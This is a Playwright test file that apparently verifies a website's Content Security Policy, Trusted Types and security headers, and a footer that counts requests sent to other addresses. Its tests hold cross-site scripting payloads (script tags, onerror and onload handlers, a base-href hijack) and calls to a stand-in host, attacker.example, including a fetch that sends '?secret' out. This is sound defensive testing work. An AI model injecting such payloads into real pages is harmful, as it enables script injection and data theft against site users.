import type { Page } from "@playwright/test";
import { expect, expectAccessibleInBothThemes, open, ready, test } from "./test.ts";

// What browsers report when the policy blocks something.
const STOPPED = /Content Security Policy|violates the following|Trusted/i;

const hasRun = (page: Page) => page.evaluate(() => "injected" in window);

test("a script injected into a page doesn't run", async ({ page, allowed, baseURL }) => {
  allowed.errors.push(STOPPED, /ERR_|404/);
  const injections = [
    "<script>window.injected = 1</script>",
    "<img src=/no-such-picture onerror='window.injected = 1'>",
    "<svg onload='window.injected = 1'></svg>",
    "<iframe srcdoc='<script>parent.injected = 1</script>'></iframe>",
    "<script src='data:text/javascript,window.injected=1'></script>",
    "<script src='https://attacker.example/x.js'></script>",
    "<base href='https://attacker.example/'>",
  ].join("");
  await page.route(`${baseURL}/About`, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replace("<body>", `<body>${injections}`) });
  });
  allowed.requests.push(/^https:\/\/attacker\.example\//);
  await page.goto("/About");
  await ready(page);
  expect(await hasRun(page)).toBe(false);
  expect(await page.evaluate(() => document.baseURI)).toBe(`${baseURL}/About`);
});

test("no text becomes a script, and no foreign address is requested", async ({ page, allowed }) => {
  allowed.errors.push(STOPPED);
  await open(page, "/Security/Hash");
  const outcomes = await page.evaluate(async () => {
    const attempts: Record<string, () => unknown> = {
      innerHTML: () => {
        document.createElement("div").innerHTML = "<img src=x onerror='window.injected = 1'>";
      },
      "a script's text": () => {
        document.body.append(Object.assign(document.createElement("script"), { textContent: "window.injected = 1" }));
      },
      "a script's address": () => {
        document.body.append(Object.assign(document.createElement("script"), { src: "https://attacker.example/x.js" }));
      },
      // Later, because what a test evaluates may do so itself.
      "a function from text": () =>
        new Promise((resolve, reject) => {
          setTimeout(() => {
            try {
              resolve(Reflect.construct(Function, ["window.injected = 1"])());
            } catch (error) {
              reject(error);
            }
          });
        }),
      "a worker from text": () => new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))),
      "a policy of its own": () => Reflect.get(window, "trustedTypes").createPolicy("other", {}),
      "a second of ours": () => Reflect.get(window, "trustedTypes").createPolicy("tabkit", {}),
      "a foreign request": () => fetch("https://attacker.example/?secret"),
    };
    const results: Record<string, string> = {};
    for (const [name, attempt] of Object.entries(attempts)) {
      try {
        await attempt();
        results[name] = "done";
      } catch (error) {
        results[name] = (error as Error).name;
      }
    }
    return results;
  });
  expect(outcomes).toEqual(
    Object.fromEntries(Object.keys(outcomes).map((name) => [name, expect.stringMatching(/Error$/)])),
  );
  expect(await hasRun(page)).toBe(false);
});

test("every file has the strict headers", async ({ request }) => {
  for (const path of ["/", "/Css/Gradient", "/no/such/page", "/icon.svg", "/service-worker.js"]) {
    const headers = (await request.get(path)).headers();
    expect(headers["content-security-policy"], path).toMatch(
      /^default-src 'none'; script-src 'self' 'wasm-unsafe-eval' 'sha256-[\w+/]{43}='; require-trusted-types-for 'script';/,
    );
    // Hashes of all pages' style attributes may be too many for a header, so each page's own policy has its own.
    const policy = headers["content-security-policy"]?.replace("style-src-attr 'unsafe-inline'", "");
    expect(policy, path).not.toContain("unsafe-inline");
    expect(headers["cross-origin-opener-policy"], path).toBe("same-origin");
    expect(headers["cross-origin-resource-policy"], path).toBe("same-origin");
    expect(headers["permissions-policy"], path).toMatch(
      /^camera=\(self\), clipboard-write=\(self\), (\w[\w-]*=\(\)(, )?)+$/,
    );
  }
});

test("every page has its own policy that allows no inline style but its own", async ({ request }) => {
  for (const path of ["/", "/Css/Gradient", "/Time/Zones"]) {
    const page = await (await request.get(path)).text();
    const policy = /http-equiv="Content-Security-Policy" content="([^"]*)"/i.exec(page)?.[1] ?? "";
    expect(policy, path).toContain("default-src");
    expect(policy, path).not.toContain("unsafe-inline");
  }
});

test("what the page requests from others is counted where visitors see it", async ({ page, allowed }) => {
  allowed.errors.push(/ERR_FAILED|Could not fetch/);
  allowed.requests.push(/^https:\/\/ipapi\.co\//);
  await page.route("https://ipapi.co/**", (route) => route.abort());
  await open(page, "/Security/Ip-lookup");
  const footer = page.getByRole("contentinfo");
  const status = footer.locator("summary");
  await expect(status).toHaveText("Sent to other addresses: 0 bytes");
  await status.click();
  await expect(footer).toContainText(
    /has fetched \d+ files from this site \([\d.]+ kB\)\. It has sent nothing anywhere else/,
  );
  await page.getByPlaceholder("Enter IPv4 or IPv6 address").fill("9.9.9.9");
  await page.getByRole("button", { name: "Lookup", exact: true }).click();
  await page.getByRole("button", { name: "City and more" }).click();
  await expect(status).toHaveText("Sent to other addresses: 1 request");
  await expect(footer.getByRole("listitem").filter({ hasText: "https://ipapi.co/9.9.9.9/json/" })).toBeVisible();
  await expect(footer).toContainText(/Version \d+\.\d+\.\d+ \([0-9a-f]{7}\)/);
  await expectAccessibleInBothThemes(page);
});
